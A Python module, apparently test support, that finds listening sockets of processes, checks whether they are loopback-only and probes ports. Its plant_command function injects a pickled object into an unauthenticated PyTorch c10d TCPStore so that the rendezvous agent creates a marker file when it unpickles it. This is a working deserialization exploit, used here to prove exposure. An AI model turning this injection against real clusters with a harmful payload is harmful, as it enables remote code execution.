"""Listening sockets of processes, an address of this machine that is not loopback, and an attack on a rendezvous store."""

from __future__ import annotations

import ipaddress
import pickle
import socket
from base64 import b64encode
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path

import psutil
from torch.distributed import TCPStore

Listener = tuple[str, int]
"""Address and port."""

_RENDEZVOUS = "torch.rendezvous."


def listeners(pids: Iterable[int]) -> dict[int, list[Listener]]:
    """Return the TCP and UDP sockets on which each of these processes listens. Processes without one are left out."""
    found = {}
    for pid in pids:
        try:
            connections = psutil.Process(pid).net_connections("inet")
        except psutil.NoSuchProcess:
            continue
        waiting = [(c.laddr.ip, c.laddr.port) for c in connections if c.status in (psutil.CONN_LISTEN, psutil.CONN_NONE)]
        if waiting:
            found[pid] = waiting
    return found


def loopback_only(found: dict[int, list[Listener]]) -> bool:
    """Return True if no socket can be reached from another machine."""
    return all(_is_loopback(address) for addresses in found.values() for address, _ in addresses)


def foreign_address() -> str:
    """Return an IPv4 address of this machine that is not 127.0.0.1: of a network card, or else another loopback address.

    A socket on all interfaces answers at this address. A socket on 127.0.0.1 does not.
    """
    of_cards = [each.address for card in psutil.net_if_addrs().values() for each in card if each.family == socket.AF_INET]
    return next((address for address in of_cards if not _is_loopback(address)), "127.0.0.2")


def reachable(address: str, ports: Iterable[int]) -> list[int]:
    """Return the ports that accept connections at an address."""
    return [port for port in ports if _connects(address, port)]


def plant_command(address: str, port: int, mark: Path) -> bool:
    """Make the agent of a c10d rendezvous create a file. Return whether its store accepted a pickled command without a login."""
    try:
        store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=5))
    except RuntimeError:  # another program listens on this port
        return False
    keys = [key for key in store.list_keys() if key.startswith(_RENDEZVOUS)]
    for key in keys:
        store.set(key, b64encode(pickle.dumps(_Touch(mark))).decode())
    return bool(keys)


class _Touch:
    """Creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.touch, (self._path,)


def _connects(address: str, port: int) -> bool:
    try:
        socket.create_connection((address, port), timeout=5).close()
    except OSError:
        return False
    return True


def _is_loopback(address: str) -> bool:
    return ipaddress.ip_address(address).is_loopback
